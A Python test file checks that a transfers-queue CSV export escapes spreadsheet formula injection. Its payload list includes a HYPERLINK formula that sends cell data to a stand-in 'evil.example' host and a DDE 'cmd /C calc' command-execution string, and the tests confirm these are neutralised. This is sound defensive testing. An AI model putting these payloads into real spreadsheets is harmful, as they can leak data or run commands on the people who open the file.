"""The file for a spreadsheet: read back it is what the queue says, and nothing in it is a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from sqlalchemy import text

from bridge import db
from bridge.views import orphans, sheet
from bridge.views.orphans import Wanted
from tests.harness import Bench, Hands
from tests.transfers.scripted_one import ScriptedOne
from tests.transfers.test_decide import orphan
from tests.views.conftest import person, proposal

PAYLOADS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t1", "\r1", "\n1", "\x00=1", '=HYPERLINK("https://evil.example?"&A1)',
    "  =cmd|' /C calc'!A0", "＝1+1", "\ufeff=1", "\u2003@x", "\u200b+1",
)  # fmt: skip
"""What a spreadsheet could take for a formula, or run."""

COLUMNS = ("player", "reason", "detail", "reference", "provider_reference", "proposed_by", "currency", "provider")
"""Texts that a provider, a player, a person or an operator has written."""


def read(lines: Any) -> list[dict[str, str]]:
    """The file, by a reader that is not ours."""
    whole = "".join(lines)
    assert whole.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(whole, newline=""), strict=True))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", COLUMNS)
def test_no_cell_begins_as_a_formula(column: str, payload: str) -> None:
    """Each payload in each text column: marked as text, and whole behind the mark."""
    cells = [payload if name == column else "harmless" for name in sheet.HEAD]
    (row,) = read([sheet.line(sheet.HEAD), sheet.line(cells)])
    assert row[column] == f"'{payload}"
    assert all(row[name] == "harmless" for name in sheet.HEAD if name != column)


@pytest.mark.parametrize(
    ("payload", "kept"),
    [("x;=1+1;y", "x;'=1+1;y"), ("x; @SUM(A1)", "x; '@SUM(A1)"), ('x";"-2+3', 'x";"\'-2+3'), ("x\t=1", "x\t'=1"),
     ("x,+1", "x,'+1"), ("x\r\n=1", "x\r\n'=1"), ("x;\ufeff＝1", "x;\ufeff'＝1"), ("=1;=2", "'=1;'=2"), ("a;b", "a;b"),
     ("\n=1+1", "'\n'=1+1"), ("\t=1", "'\t'=1"), ("\r\n=1", "'\r\n'=1"), ("\n\n =1", "'\n\n '=1"), (";=1", ";'=1"),
     ("\n;=1", "'\n;'=1")],
)  # fmt: skip
def test_no_part_of_a_cell_begins_as_a_formula(payload: str, kept: str) -> None:
    """Where the list separator is another one, a cell is split in its middle: no part is a formula either."""
    (cells,) = csv.reader(io.StringIO(sheet.line([payload]), newline=""), strict=True)
    assert cells == [kept]


@pytest.mark.parametrize("told", ['a "quoted" word', "one,\r\ntwo", "", "ärger 💶", "'already", "1=1", "10.00"])
def test_other_texts_are_as_they_were(told: str) -> None:
    """Quotes, commas, line ends and any script's letters come back as they were."""
    (cells,) = csv.reader(io.StringIO(sheet.line([told, "x"]), newline=""), strict=True)
    assert cells == [told, "x"]


def test_the_file_is_the_queue(lone: Bench, one: ScriptedOne, hands: Hands) -> None:
    """Every orphan once; amounts and ages are numbers, whatever a provider had said is text."""
    first = orphan(lone, one, hands, "in", "custody")
    one.script = ["wrong_amount"]
    second = lone.run("out")
    proposal(lone, second, person(lone, "=mia"))
    with db.writing(lone.runtime.engine) as connection:
        change = "UPDATE transfer SET reason_detail = '=cmd()', reason_code = '@x' WHERE id = :id"
        connection.execute(text(change), {"id": first})
        connection.execute(text("UPDATE leg SET provider_reference = '-2+3' WHERE transfer_id = :id"), {"id": first})
    whole = "".join(sheet.lines(lone.runtime, lone.operator, Wanted()))
    rows = read([whole])
    queue = {each.id: each for each in orphans.queue(lone.runtime, lone.operator, Wanted()).transfers}
    assert [row["transfer"] for row in rows] == sorted(queue) == sorted([first, second])
    for row in rows:
        told = queue[row["transfer"]]
        assert (row["amount"], row["currency"], row["player"]) == ("10.00", "EUR", "ann")
        assert int(row["age_seconds"]) == (hands.now() - told.since) // 1_000_000
        assert row["begun"].startswith("2027-01-15T08:")
    mine = next(row for row in rows if row["transfer"] == first)
    assert (mine["detail"], mine["reason"], mine["provider_reference"]) == ("'=cmd()", "'@x", "'-2+3")
    other = next(row for row in rows if row["transfer"] == second)
    assert (other["proposal"], other["proposed_by"]) == ("confirm", "'=Mia")
    assert ',10.00,"EUR",' in whole
